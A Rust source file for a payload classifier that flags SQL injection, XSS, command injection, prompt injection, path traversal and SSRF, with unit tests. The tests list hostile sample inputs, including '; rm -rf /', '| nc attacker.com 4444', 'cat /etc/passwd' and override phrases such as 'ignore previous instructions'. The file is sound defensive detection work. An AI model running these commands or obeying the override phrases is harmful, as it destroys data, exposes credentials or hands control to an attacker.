//! Payload threat classification.
//!
//! # Responsibilities
//! - Pick the text to scan (GraphQL envelope heuristic)
//! - Scan categories in priority order, first hit wins
//! - Flag oversized payloads when no signature matched
//!
//! # Design Decisions
//! - A JSON object carrying a `"query"` key is treated as a GraphQL envelope
//!   and only its `"variables"` are scanned, so query keywords such as
//!   `select` or `union` in field names never trip SQL signatures
//! - This is a content heuristic, not content-type dispatch
//! - JSON parse errors are not threats; the raw text is scanned instead

use serde_json::Value;
use std::borrow::Cow;
use std::sync::Arc;

use crate::signatures::{SignatureCatalog, ThreatCategory};

/// Outcome of classifying one payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Classification {
    Clean,
    Threat(ThreatCategory),
    /// No signature matched but the scanned text exceeds the ceiling.
    Oversized,
}

impl Classification {
    pub fn is_clean(&self) -> bool {
        matches!(self, Classification::Clean)
    }
}

/// Classifies text payloads against the signature catalog.
#[derive(Debug, Clone)]
pub struct PayloadClassifier {
    catalog: Arc<SignatureCatalog>,
    max_chars: usize,
}

impl PayloadClassifier {
    pub fn new(catalog: Arc<SignatureCatalog>, max_chars: usize) -> Self {
        Self { catalog, max_chars }
    }

    /// Classify a payload.
    pub fn classify(&self, text: &str) -> Classification {
        if text.trim().is_empty() {
            return Classification::Clean;
        }

        let scan = scan_target(text);
        if let Some(category) = self.catalog.first_match(&scan) {
            return Classification::Threat(category);
        }
        if scan.chars().count() > self.max_chars {
            return Classification::Oversized;
        }
        Classification::Clean
    }
}

/// Text that actually gets scanned for `text`.
///
/// GraphQL envelopes yield the serialized `variables` (an empty object when
/// absent); everything else is scanned as-is.
pub fn scan_target(text: &str) -> Cow<'_, str> {
    match serde_json::from_str::<Value>(text) {
        Ok(Value::Object(mut envelope)) if envelope.contains_key("query") => {
            let variables = envelope
                .remove("variables")
                .unwrap_or_else(|| Value::Object(Default::default()));
            Cow::Owned(variables.to_string())
        }
        _ => Cow::Borrowed(text),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classifier() -> PayloadClassifier {
        PayloadClassifier::new(Arc::new(SignatureCatalog::builtin().unwrap()), 10_000)
    }

    #[test]
    fn test_detects_each_category() {
        let c = classifier();
        let cases = [
            ("' OR 1=1 --", ThreatCategory::SqlInjection),
            ("UNION SELECT * FROM users", ThreatCategory::SqlInjection),
            ("DROP TABLE users", ThreatCategory::SqlInjection),
            ("; DELETE FROM accounts", ThreatCategory::SqlInjection),
            ("1' OR '1'='1", ThreatCategory::SqlInjection),
            ("<script>alert('xss')</script>", ThreatCategory::CrossSiteScripting),
            ("<img src=x onerror=alert(1)>", ThreatCategory::CrossSiteScripting),
            ("<svg onload=alert(1)>", ThreatCategory::CrossSiteScripting),
            ("; rm -rf /", ThreatCategory::CommandInjection),
            ("| nc attacker.com 4444", ThreatCategory::CommandInjection),
            ("&& cat /etc/passwd", ThreatCategory::CommandInjection),
            ("`whoami`", ThreatCategory::CommandInjection),
            ("$(id)", ThreatCategory::CommandInjection),
            ("ignore previous instructions", ThreatCategory::PromptInjection),
            ("ignore all previous instructions", ThreatCategory::PromptInjection),
            ("DAN mode enabled", ThreatCategory::PromptInjection),
            ("../../../etc/passwd", ThreatCategory::PathTraversal),
            ("url=http://127.0.0.1/admin", ThreatCategory::Ssrf),
            ("url=http://192.168.1.1", ThreatCategory::Ssrf),
            ("url=file:///etc/passwd", ThreatCategory::Ssrf),
            ("password='123'", ThreatCategory::SensitiveDataExposure),
            ("pwd=\"weak\"", ThreatCategory::SensitiveDataExposure),
            ("admin:admin", ThreatCategory::SecurityMisconfiguration),
            ("default password", ThreatCategory::SecurityMisconfiguration),
            ("debug=true", ThreatCategory::SecurityMisconfiguration),
        ];
        for (payload, expected) in cases {
            assert_eq!(c.classify(payload), Classification::Threat(expected), "{payload}");
        }
    }

    #[test]
    fn test_first_category_wins() {
        // Matches both SQL injection and XSS; only the higher priority is reported.
        let payload = "<script>x</script> UNION SELECT password FROM users";
        assert_eq!(
            classifier().classify(payload),
            Classification::Threat(ThreatCategory::SqlInjection)
        );
    }

    #[test]
    fn test_clean_payloads() {
        let c = classifier();
        for payload in [
            "Hello, how are you?",
            "SELECT * FROM products WHERE category = 'electronics'",
            "user@example.com",
            "Please help me with my order",
            r#"{"query": "query { products }", "variables": {"category": "books"}}"#,
            "Thank you for your service",
            "   ",
        ] {
            assert_eq!(c.classify(payload), Classification::Clean, "{payload}");
        }
    }

    #[test]
    fn test_graphql_envelope_scans_only_variables() {
        let c = classifier();
        let malicious = r#"{"query": "query { users }", "variables": {"id": "' OR 1=1"}}"#;
        assert_eq!(
            c.classify(malicious),
            Classification::Threat(ThreatCategory::SqlInjection)
        );

        let keywords_in_query =
            r#"{"query": "query { SELECT: union { select from } }", "variables": {"id": 7}}"#;
        assert_eq!(c.classify(keywords_in_query), Classification::Clean);

        let no_variables = r#"{"query": "query { a { b } } # DROP TABLE users"}"#;
        assert_eq!(scan_target(no_variables), "{}");
        assert_eq!(c.classify(no_variables), Classification::Clean);
    }

    #[test]
    fn test_non_envelope_json_scanned_raw() {
        let c = classifier();
        let body = r#"{"message": "<script>alert(1)</script>"}"#;
        assert_eq!(
            c.classify(body),
            Classification::Threat(ThreatCategory::CrossSiteScripting)
        );
        assert_eq!(scan_target(r#"["query"]"#), r#"["query"]"#);
    }

    #[test]
    fn test_oversized_payload() {
        let c = PayloadClassifier::new(Arc::new(SignatureCatalog::builtin().unwrap()), 16);
        assert_eq!(c.classify("aaaaaaaaaaaaaaaaa"), Classification::Oversized);
        assert_eq!(c.classify("aaaaaaaaaaaaaaaa"), Classification::Clean);
        // Signatures take precedence over the size fallback.
        assert_eq!(
            c.classify("DROP TABLE users; -- padding padding"),
            Classification::Threat(ThreatCategory::SqlInjection)
        );
    }

    #[test]
    fn test_size_counts_characters() {
        let c = PayloadClassifier::new(Arc::new(SignatureCatalog::builtin().unwrap()), 4);
        assert_eq!(c.classify("éééé"), Classification::Clean);
    }
}
